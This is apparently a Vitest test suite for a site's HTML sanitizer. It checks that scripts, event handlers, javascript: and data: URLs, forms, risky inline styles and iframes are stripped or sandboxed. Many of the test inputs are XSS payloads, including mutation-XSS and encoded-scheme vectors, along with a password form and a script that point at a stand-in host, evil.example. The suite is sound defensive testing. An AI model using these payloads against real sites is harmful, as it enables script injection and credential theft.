import { afterEach, describe, expect, it, vi } from 'vitest';
import { clearSanitizeCache, iframeSandbox, sanitizeHtml, stripTags } from './sanitizeHtml.ts';

/** Parses sanitized HTML so assertions read the resulting elements, not the string's formatting. */
function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

afterEach(() => {
  clearSanitizeCache();
});

describe('sanitizeHtml keeps the content', () => {
  it('keeps ordinary formatting, headings, lists, images and tables', () => {
    const html =
      '<h2 id="soil">Soil</h2><p>Use <strong>compost</strong> and <em>mulch</em>.</p><ul><li>Kale</li></ul>' +
      '<img src="/images/bed.jpg" alt="A raised bed" width="600" height="400"><table><tbody><tr><td>Zone 5</td></tr></tbody></table>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps the href of links', () => {
    const doc = parse(
      sanitizeHtml(
        '<a href="/blog/compost">Compost</a> <a href="mailto:hello@example.com">Mail</a>',
      ),
    );
    const links = doc.querySelectorAll('a');
    expect(links[0]).toHaveAttribute('href', '/blog/compost');
    expect(links[1]).toHaveAttribute('href', 'mailto:hello@example.com');
    expect(links[0]).not.toHaveAttribute('rel');
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml(undefined as unknown as string)).toBe('');
  });
});

describe('sanitizeHtml removes what could run code', () => {
  it('removes script elements and their content', () => {
    expect(sanitizeHtml('<p>Hi</p><script>alert(1)</script>')).toBe('<p>Hi</p>');
    expect(sanitizeHtml('<script src="https://evil.example/x.js"></script>')).toBe('');
  });

  it('removes event handler attributes from images', () => {
    const doc = parse(sanitizeHtml('<img src="x" onerror="alert(1)" alt="">'));
    expect(doc.querySelector('img')).not.toHaveAttribute('onerror');
  });

  it('removes onload from svg', () => {
    const clean = sanitizeHtml('<svg onload="alert(1)"><circle r="4"></circle></svg>');
    expect(clean).not.toContain('onload');
    expect(clean).not.toContain('alert');
  });

  it('removes every on* attribute whatever its case', () => {
    const clean = sanitizeHtml(
      '<p OnMouseOver="alert(1)" onclick="alert(2)" onfocus=alert(3)>Hover</p>',
    );
    expect(clean).toBe('<p>Hover</p>');
  });

  it('drops javascript: and data: URLs from links', () => {
    const doc = parse(
      sanitizeHtml(
        '<a href="javascript:alert(1)">One</a><a href=" JaVaScRiPt:alert(2)">Two</a>' +
          '<a href="jav&#x09;ascript:alert(3)">Three</a><a href="data:text/html,<script>alert(4)</script>">Four</a>',
      ),
    );
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((link) => link.textContent)).toEqual(['One', 'Two', 'Three', 'Four']);
    for (const link of links) expect(link).not.toHaveAttribute('href');
  });

  it('removes style elements but keeps the text around them', () => {
    expect(sanitizeHtml('<style>body{display:none}</style><p>Visible</p>')).toBe('<p>Visible</p>');
  });

  it('removes forms and their controls', () => {
    const clean = sanitizeHtml(
      '<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label>' +
        '<select><option>1</option></select><textarea>x</textarea><button formaction="https://evil.example">Go</button></form>',
    );
    const doc = parse(clean);
    expect(doc.querySelector('form, input, select, option, textarea, button')).toBeNull();
    expect(clean).not.toContain('evil.example');
  });

  it('keeps plain inline styles but drops ones that load URLs or cover the page', () => {
    const doc = parse(
      sanitizeHtml(
        '<p style="text-align: center">Centred</p><p style="background:url(https://tracker.example/p.gif)">Tracked</p>' +
          '<div style="position: fixed; inset: 0">Overlay</div><p style="width: expression(alert(1))">Old IE</p>',
      ),
    );
    const styled = [...doc.querySelectorAll('p, div')].map((element) =>
      element.getAttribute('style'),
    );
    expect(styled).toEqual(['text-align: center', null, null, null]);
  });

  it('removes iframes unless they are allowed', () => {
    expect(
      sanitizeHtml('<p>Video</p><iframe src="https://www.youtube.com/embed/abc"></iframe>'),
    ).toBe('<p>Video</p>');
  });

  it('removes objects, embeds and base elements', () => {
    const doc = parse(
      sanitizeHtml(
        '<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/"><p>ok</p>',
      ),
    );
    expect(doc.querySelector('object, embed, base')).toBeNull();
    expect(doc.textContent).toBe('ok');
  });

  it('removes data attributes, so content cannot pose as the page’s own hooks', () => {
    const html = sanitizeHtml(
      '<div data-shell-part="account-menu"><a href="/a" data-early-click="">A</a>' +
        '<section data-section-island="1" data-deferred="" data-x="y">B</section></div>',
    );
    expect(html).toBe('<div><a href="/a">A</a><section>B</section></div>');
  });

  it('survives nested and malformed markup without leaving live code', () => {
    const vectors = [
      '<<script>alert(1)//<</script>',
      '<img src=x onerror=alert(1)//',
      '<div><p><a href="javascript:alert(1)"><img src=x onerror=alert(1)></p></div>',
      '<svg><g/onload=alert(1)//<p>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<div style="background:url(javascript:alert(1))">x</div><scr<script>ipt>alert(1)</script>',
    ];
    for (const vector of vectors) {
      const doc = parse(sanitizeHtml(vector));
      expect(doc.querySelector('script, iframe, style, noscript')).toBeNull();
      for (const element of doc.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
          expect(attribute.name.startsWith('on')).toBe(false);
          expect(attribute.value.replace(/\s/g, '').toLowerCase()).not.toContain('javascript:');
        }
      }
    }
  });
});

describe('sanitizeHtml and links that open a new tab', () => {
  it('adds rel="noopener noreferrer" to links with target _blank', () => {
    const doc = parse(sanitizeHtml('<a href="https://example.com" target="_blank">Example</a>'));
    const link = doc.querySelector('a');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('keeps other rel values while adding the safe ones', () => {
    const doc = parse(
      sanitizeHtml('<a href="https://example.com" target="_blank" rel="nofollow">Example</a>'),
    );
    expect(doc.querySelector('a')).toHaveAttribute('rel', 'nofollow noopener noreferrer');
  });

  it('treats a named target as a new tab too', () => {
    const doc = parse(sanitizeHtml('<a href="https://example.com" target="shop">Shop</a>'));
    expect(doc.querySelector('a')).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('leaves links that stay in the same tab alone', () => {
    const doc = parse(sanitizeHtml('<a href="/about" target="_self">About</a>'));
    expect(doc.querySelector('a')).not.toHaveAttribute('rel');
  });
});

describe('sanitizeHtml with iframes allowed', () => {
  it('keeps the iframe, sandboxed and lazy', () => {
    const doc = parse(
      sanitizeHtml(
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>',
        { allowIframes: true },
      ),
    );
    const iframe = doc.querySelector('iframe');
    expect(iframe).toHaveAttribute('src', 'https://www.youtube.com/embed/dQw4w9WgXcQ');
    expect(iframe).toHaveAttribute('sandbox', iframeSandbox);
    expect(iframe).toHaveAttribute(
      'sandbox',
      'allow-scripts allow-same-origin allow-popups allow-presentation',
    );
    expect(iframe).toHaveAttribute('loading', 'lazy');
    expect(iframe).toHaveAttribute('allowfullscreen');
  });

  it('overrides whatever sandbox and loading the CMS wrote', () => {
    const doc = parse(
      sanitizeHtml(
        '<iframe src="https://www.google.com/maps/embed?pb=1" sandbox="allow-top-navigation allow-forms" loading="eager"></iframe>',
        { allowIframes: true },
      ),
    );
    const iframe = doc.querySelector('iframe');
    expect(iframe).toHaveAttribute('sandbox', iframeSandbox);
    expect(iframe).toHaveAttribute('loading', 'lazy');
  });

  it('sandboxes every iframe, nested ones included', () => {
    const doc = parse(
      sanitizeHtml(
        '<div><iframe src="https://www.youtube.com/embed/1"></iframe><section><iframe src="https://player.vimeo.com/video/2"></iframe></section></div>',
        { allowIframes: true },
      ),
    );
    const iframes = [...doc.querySelectorAll('iframe')];
    expect(iframes).toHaveLength(2);
    for (const iframe of iframes) expect(iframe).toHaveAttribute('sandbox', iframeSandbox);
  });

  it('drops a src that is not an absolute http(s) address, and srcdoc', () => {
    const doc = parse(
      sanitizeHtml(
        '<iframe src="javascript:alert(1)"></iframe><iframe src="/account"></iframe>' +
          '<iframe src="data:text/html,<script>alert(1)</script>"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
        { allowIframes: true },
      ),
    );
    const iframes = [...doc.querySelectorAll('iframe')];
    expect(iframes).toHaveLength(4);
    for (const iframe of iframes) {
      expect(iframe).not.toHaveAttribute('src');
      expect(iframe).not.toHaveAttribute('srcdoc');
      expect(iframe).toHaveAttribute('sandbox', iframeSandbox);
    }
  });

  it('names an untitled frame, and turns one from a host the page policy does not list into a link', () => {
    const doc = parse(
      sanitizeHtml(
        '<iframe src="https://www.youtube.com/embed/a"></iframe><iframe src="https://forms.example.com/x" title="Sign-up"></iframe>',
        { allowIframes: true },
      ),
    );
    expect(doc.querySelector('iframe')).toHaveAttribute('title', 'Embedded content');
    expect(doc.querySelector('a')).toHaveAttribute('href', 'https://forms.example.com/x');
    expect(doc.querySelector('a')).toHaveTextContent('Sign-up (forms.example.com)');
  });

  it('still removes scripts and handlers around the iframe', () => {
    const clean = sanitizeHtml(
      '<iframe src="https://a.example" onload="alert(1)"></iframe><script>alert(2)</script>',
      {
        allowIframes: true,
      },
    );
    expect(clean).not.toContain('alert');
  });
});

describe('sanitizeHtml cache', () => {
  it('gives the same answer from the cache as on the first call', () => {
    const html = '<p onclick="x()">Cached</p>';
    const first = sanitizeHtml(html);
    expect(sanitizeHtml(html)).toBe(first);
    expect(first).toBe('<p>Cached</p>');
  });

  it('keeps results for different options apart', () => {
    const html = '<iframe src="https://www.youtube.com/embed/a"></iframe>';
    expect(sanitizeHtml(html, { allowIframes: true })).toContain('<iframe');
    expect(sanitizeHtml(html)).toBe('');
    expect(sanitizeHtml(html, { allowIframes: true })).toContain('<iframe');
  });
});

describe('stripTags, the fallback without a DOM', () => {
  it('keeps only the text', () => {
    expect(stripTags('<p>Grow <strong>kale</strong></p>')).toBe('Grow kale');
  });

  it('drops scripts and styles with their content', () => {
    expect(stripTags('<p>Hi</p><script>alert(1)</script><style>p{}</style>')).toBe('Hi');
  });

  it('escapes what is left of broken tags so no element can form', () => {
    expect(stripTags('a < b and <img src=x onerror=alert(1)')).toBe('a &lt; b and ');
    expect(stripTags('<<script>alert(1)//<</script>')).toBe('&lt;');
    const doc = parse(stripTags('<scr<script>ipt>alert(1)</scr</script>ipt>'));
    expect(doc.querySelector('*')).toBeNull();
  });

  it('is not used while a DOM is available', () => {
    const warn = vi.spyOn(console, 'warn');
    expect(sanitizeHtml('<p>With a DOM</p>')).toBe('<p>With a DOM</p>');
    expect(warn).not.toHaveBeenCalled();
  });
});
